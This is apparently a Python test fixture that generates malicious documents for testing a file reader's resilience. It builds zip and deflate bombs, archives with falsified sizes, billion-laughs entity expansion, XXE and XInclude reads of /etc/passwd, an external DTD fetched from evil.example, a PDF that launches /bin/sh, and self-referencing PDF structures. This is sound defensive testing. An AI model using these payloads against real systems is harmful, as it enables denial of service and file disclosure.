"""Files made to burst, to go round in circles, to climb out or to lie; every one is small and made here."""

# ruff: noqa: E501

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from itertools import pairwise

from tests.reading import pages
from tests.reading.papers import BODY, CONTAINER, OPF, P1, P2, docx, epub, packed, page, para, pdf, placed, rtf

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SPACE = b" " * 120_000_000


def _document(inside: str, dtd: str = "") -> dict[str, str | bytes]:
    head = f'<?xml version="1.0" encoding="UTF-8"?>{dtd}<w:document xmlns:w="{_W}"><w:body>'
    return {"word/document.xml": f"{head}{inside}</w:body></w:document>"}


def _laughs(depth: int) -> str:
    names = "abcdefghij"[:depth]
    rows = [f'<!ENTITY {names[0]} "{"ha " * 20}">']
    rows += [f'<!ENTITY {one} "{f"&{before};" * 10}">' for before, one in pairwise(names)]
    return f"<!DOCTYPE x [{''.join(rows)}]>"


def _zip_in_zip() -> bytes:
    inner = packed({"0": b"\0" * 9_000_000})
    for _ in range(6):
        inner = packed({str(number): inner for number in range(4)})
    return inner


def _lying(data: bytes, size: int) -> bytes:
    """Return an archive whose directory gives each entry another unpacked size than it has."""
    made = bytearray(data)
    place = made.find(b"PK\x01\x02")
    while place >= 0:
        made[place + 24 : place + 28] = struct.pack("<I", size)
        place = made.find(b"PK\x01\x02", place + 4)
    return bytes(made)


def _overlapping() -> bytes:
    """Return an archive whose 4,000 directory entries share one packed stretch."""
    data = bytearray(packed({"word/document.xml": b" " * 9_000_000}))
    start, end = data.find(b"PK\x01\x02"), data.find(b"PK\x05\x06")
    entry, tail = bytes(data[start:end]), bytearray(data[end:])
    entries = b"".join(entry.replace(b"word/document.xml", b"word/%08d.xml" % number) for number in range(4_000))
    tail[8:12] = struct.pack("<HH", 4_000, 4_000)
    tail[12:16] = struct.pack("<I", len(entries))
    return bytes(data[:start]) + entries + bytes(tail)


def _crowded() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<x/>")
        for number in range(20_000):
            archive.writestr(f"word/{number}", b"")
    return buffer.getvalue()


def objects(*bodies: bytes, root: int = 1, more: bytes = b"") -> bytes:
    """Return a PDF of numbered objects with a sound table of their places."""
    made = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(bodies, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer << /Size %d /Root %d 0 R %b>>\n" % (len(bodies) + 1, root, more)
    made += b"startxref\n%d\n%%%%EOF" % start
    return bytes(made)


def stream(data: bytes, head: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), head, data)


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_FONT = b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Times-Roman >> >>"
_SHOWN = b"BT /F1 11 Tf 50 700 Td (%b) Tj ET" % P1.encode()


def _one_page(contents: bytes, *others: bytes, resources: bytes = _FONT, more: bytes = b"") -> bytes:
    """Return a PDF of one page: its contents are object 4, the others follow."""
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %b >> %b >>"
    return objects(_CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", leaf % (resources, more), contents, *others)


def _flate(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter [%b]" % (b"/FlateDecode " * times))


def _form(number: int, inner: bytes) -> bytes:
    head = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /A %d 0 R >> >>" % number
    return stream(inner, head)


def _widths() -> bytes:
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [6 0 R] >>"
    inner = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << >> /W [0 999999999 500] >>"
    return _one_page(stream(_SHOWN), font, inner, resources=b"/Font << /F1 5 0 R >>")


def _unicode_map() -> bytes:
    words = b"/CIDInit begincmap 1 beginbfrange <0000> <FFFFFFFF> <0041> endbfrange endcmap"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Times-Roman /ToUnicode 6 0 R >>"
    return _one_page(stream(_SHOWN), font, stream(words), resources=b"/Font << /F1 5 0 R >>")


def _fanned(depth: int, width: int) -> bytes:
    """Return a PDF whose forms draw each other, ten times a level."""
    forms = [_form(number + 6, b"/A Do " * width) for number in range(depth)]
    return _one_page(stream(b"/A Do"), *forms, _form(5, _SHOWN), resources=b"/XObject << /A 5 0 R >> " + _FONT)


def _circular_table() -> bytes:
    made = objects(_CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>")
    place = made.rfind(b"xref\n0")
    return made.replace(b"trailer << ", b"trailer << /Prev %d " % place)


FAST: dict[str, Callable[[], bytes]] = {
    # Archives
    "a bomb.docx": lambda: docx([], more={"word/document.xml": _SPACE}),
    "a bomb.epub": lambda: epub(more={"OEBPS/text/one.xhtml": _SPACE}),
    "archives in archives.docx": lambda: docx(map(para, BODY), more={"word/media/a.zip": _zip_in_zip()}),
    "an archive in an archive.epub": lambda: epub(more={"OEBPS/text/one.xhtml": _zip_in_zip()}),
    "said too small.docx": lambda: _lying(docx([], more={"word/document.xml": _SPACE}), 4_000),
    "said too large.docx": lambda: _lying(docx(map(para, BODY)), 0xFFFFFFFE),
    "said too large.epub": lambda: _lying(epub(), 0xFFFFFFFE),
    "sharing.docx": _overlapping,
    "crowded.docx": _crowded,
    "a folder as a part.docx": lambda: docx([], more={"word/document.xml/": b""}),
    # Entities
    "laughs.docx": lambda: docx([], more=_document("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", _laughs(10))),
    "laughs.epub": lambda: epub(more={"OEBPS/content.opf": OPF.replace("<package", f"{_laughs(10)}<package")}),
    "laughs on a page.epub": lambda: epub({"OEBPS/text/one.xhtml": page("<p>&j;</p>", doctype=_laughs(10))}),
    "laughs in the box.epub": lambda: epub(more={"META-INF/container.xml": CONTAINER.replace("<cont", f"{_laughs(10)}<cont", 1)}),
    "laughs.html": lambda: (_laughs(10) + f"<html><p>{P1} &j; {P2}</p></html>").encode(),
    "one long entity.docx": lambda: docx([], more=_document(f"<w:p><w:r><w:t>{'&a;' * 90_000}</w:t></w:r></w:p>", f'<!DOCTYPE x [<!ENTITY a "{"ha " * 30_000}">]>')),
    "an outside file.epub": lambda: epub({"OEBPS/text/one.xhtml": page("<p>&a;</p>", doctype='<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd">]>')}),
    "an outside type.epub": lambda: epub(more={"OEBPS/content.opf": OPF.replace("<package", '<!DOCTYPE package SYSTEM "http://evil.example/a.dtd"><package')}),
    "included.docx": lambda: docx([], more=_document(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>{para(P1)}')),
    # Depth, width and length
    "deep.docx": lambda: docx(["<w:p>" * 60_000 + "</w:p>" * 60_000]),
    "deep tables.docx": lambda: docx(["<w:tbl><w:tr><w:tc>" * 80 + para(P1) + "</w:tc></w:tr></w:tbl>" * 80]),
    "deep.epub": lambda: epub({"OEBPS/text/one.xhtml": page("<div>" * 60_000 + P1)}),
    "deep.html": lambda: ("<html><body>" + "<div>" * 100_000 + P1).encode(),
    "deep.rtf": lambda: b"{\\rtf1" + b"{" * 100_000 + b"x",
    "deep.md": lambda: ("> " * 40_000 + P1 + "\n\n" + "[" * 40_000 + P2).encode(),
    "attributes.docx": lambda: docx([], more=_document("<w:p " + " ".join(f'a{number}="x"' for number in range(60_000)) + "/>")),
    "loops of styles.docx": lambda: docx(map(para, BODY), more={"word/styles.xml": f'<w:styles xmlns:w="{_W}"><w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="A"/></w:style></w:styles>'}),
    "one line.txt": lambda: (P1 * 10_000).encode(),
    "one word.txt": lambda: b"word" * 1_000_000 + b".",
    "marks.md": lambda: b"*_`~[(<!" * 40_000 + P1.encode(),
    "lines.txt": lambda: b"A line of it\n" * 60_000,
    "stops.txt": lambda: (P1 + "." * 400_000 + '"' * 400_000).encode(),
    # RTF
    "groups.rtf": lambda: b"{\\rtf1 " + b"{\\b x}" * 150_000 + b"}",
    "binary.rtf": lambda: rtf(P1, "{\\bin9999999999 }" + P2),
    "letters.rtf": lambda: rtf(P1, "\\u-99999999 ?" * 60_000 + "\\uc999999999 " + P2),
    "a page nobody knows.rtf": lambda: rtf(P1, P2).replace(b"cpg1252", b"cpg99999"),
    # PDF
    "streams.pdf": lambda: _one_page(_flate(b" " * 100_000_000, 1)),
    "streams in streams.pdf": lambda: _one_page(_flate(b" " * 100_000_000, 3)),
    "runs.pdf": lambda: _one_page(stream(b"\x81 " * 150_000, b"/Filter /RunLengthDecode")),
    "predicted.pdf": lambda: _one_page(stream(zlib.compress(b" " * 99_999), b"/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 999999999 /Colors 99 >>")),
    "a page of itself.pdf": lambda: objects(_CATALOG, b"<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 3 >>"),
    "a length of itself.pdf": lambda: objects(_CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>", b"<< /Length 4 0 R >>\nstream\nx\nendstream"),
    "a parent of itself.pdf": lambda: objects(_CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>", b"<< /Type /Page /Parent 2 0 R >>"),
    "a form in itself.pdf": lambda: _one_page(stream(b"/A Do"), _form(5, b"/A Do /A Do"), resources=b"/XObject << /A 5 0 R >> " + _FONT),
    "a table of itself.pdf": _circular_table,
    "huge counts.pdf": lambda: _one_page(stream(_SHOWN), more=b"/UserUnit 99999999 /Rotate 99999").replace(b"/Count 1", b"/Count 2147483647").replace(b"/Size 5", b"/Size 2147483647"),
    "a huge page.pdf": lambda: _one_page(stream(_SHOWN)).replace(b"0 0 595 842", b"0 0 1e300 1e300"),
    "deep arrays.pdf": lambda: _one_page(stream(b"[" * 200_000 + _SHOWN)),
    "deep objects.pdf": lambda: objects(_CATALOG, b"[" * 100_000 + b"]" * 100_000),
    "saved states.pdf": lambda: _one_page(stream(b"q " * 100_000 + _SHOWN)),
    "loop.pdf": lambda: pdf([placed([P1], 50)]).replace(b"/Kids [", b"/Kids [ 1 0 R 2 0 R 3 0 R 4 0 R 5 0 R 6 0 R "),
    "a program.pdf": lambda: objects(_CATALOG.replace(b">>", b"/OpenAction << /S /Launch /F (/bin/sh) >> >>", 1), b"<< /Type /Pages /Kids [] /Count 0 >>"),
    "widths.pdf": _widths,
    "a map of all letters.pdf": _unicode_map,
    "ten thousand pages.pdf": lambda: objects(_CATALOG, b"<< /Type /Pages /Kids [%b] /Count 10000 >>" % (b"3 0 R " * 10_000), b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"),
    # Pages of the web
    "loads.html": lambda: pages.UNSAFE.encode(),
    "scripts.html": lambda: (f"<html><body><p>{P1}</p>" + "<script>x</script>" * 30_000 + f"<p>{P2}</p></body></html>").encode(),
    # As long as a file may be
    "just small enough.txt": lambda: ("The 🙂" + "🙂" * 94 + ". ").encode() * 49_000,
    "just too large.txt": lambda: b"word " * 9_900_000,
}  # fmt: skip
"""Those whose end comes at once."""

SLOW: dict[str, Callable[[], bytes]] = {
    "long.docx": lambda: docx([para("x " * 2_600_000)]),
    "wide.docx": lambda: docx([para("x")] * 150_000),
    "wide.epub": lambda: epub({"OEBPS/text/one.xhtml": "<html><body>" + "<p>x</p>" * 400_000 + "</body></html>"}),
    "wide.html": lambda: ("<html><body>" + "<p>A word of it</p>" * 150_000 + "</body></html>").encode(),
    "rows.pdf": lambda: pdf([[(50, 700 - number % 600, "x " * 60) for number in range(4_000)]]),
    "forms in forms.pdf": lambda: _fanned(9, 10),
    "a reference to itself.pdf": lambda: objects(_CATALOG, b"2 0 R"),
    "nothing after the head.pdf": lambda: b"%PDF-1.4\n" + bytes(49 << 20),
}  # fmt: skip
"""Those that take seconds, some of them all the time that there is."""
